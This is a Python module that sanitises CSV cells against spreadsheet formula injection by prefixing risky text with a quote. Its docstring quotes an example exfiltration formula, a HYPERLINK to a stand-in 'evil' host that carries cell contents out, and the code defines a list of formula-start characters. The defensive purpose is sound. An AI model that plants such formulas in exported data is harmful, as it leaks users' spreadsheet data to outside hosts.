"""CSV that a spreadsheet opens as data, never as formulas. Plain Python.

Call ids, model names, repositories and client names come from API keys; a
cell such as `=HYPERLINK("http://evil/?"&A1)` would run as a formula in the
manager's spreadsheet. As OWASP recommends, a text cell that starts with
`=`, `+`, `-`, `@`, a tab or a carriage return is prefixed with a single
quote, which spreadsheets show as text. Numbers Governor writes itself
(int, Decimal, float) are left as they are, so a negative saving stays a
number.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


def csv_cell(value: Any) -> str | int | float:
    """One value as a safe CSV cell."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, int | float):
        return value
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeWriter:
    """csv.writer whose every cell goes through `csv_cell`."""

    def __init__(self, stream: _Writable) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([csv_cell(v) for v in row])


def csv_writer(stream: _Writable) -> SafeWriter:
    return SafeWriter(stream)
